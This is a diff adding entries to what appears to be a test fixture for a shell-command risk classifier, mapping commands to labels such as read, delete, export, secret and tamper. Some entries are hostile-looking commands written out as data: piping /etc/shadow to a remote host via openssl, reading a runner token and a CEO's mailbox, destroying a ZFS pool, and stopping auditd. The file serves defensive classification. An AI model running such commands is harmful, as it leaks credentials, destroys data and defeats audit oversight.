@@ -68,6 +68,24 @@ kill -9 123 -> exec
 ./deploy.sh prod -> exec : prod
 apt-get install -y jq -> write exec : jq
 apt list --installed -> read
+timedatectl status -> read
+chronyc tracking -> read
+chronyc makestep -> write exec
+zpool status tank -> read : tank
+zpool replace tank da7 da12 -> write exec : tank
+zpool destroy tank -> delete : tank
+echo | openssl s_client -connect web:443 -> network read : web:443
+openssl s_client -connect web:443 < /dev/null -> network read : web:443
+cat /etc/shadow | openssl s_client -connect web:443 -> network read export secret : web:443
+dig +short TXT example.org -> network read : example.org
+echo "show stat" | socat stdio /run/haproxy/admin.sock -> read
+echo "disable server app/web1" | socat stdio /run/haproxy/admin.sock -> exec
+ansible all -m shell -a 'dpkg -l | grep jq' -> read
+ansible all -a 'rm -rf /srv/x' -> delete : /srv/x
+ansible all -b -m apt -a 'name=jq' -> write exec
+vault operator unseal -> exec privilege
+cat /etc/runner.toml | grep token -> read secret : /etc/runner.toml
+cat /var/mail/ceo -> read secret : /var/mail/ceo
 systemctl stop auditd -> tamper exec : auditd
 service rsyslog stop -> tamper exec : rsyslog
 pkill auditd -> tamper exec
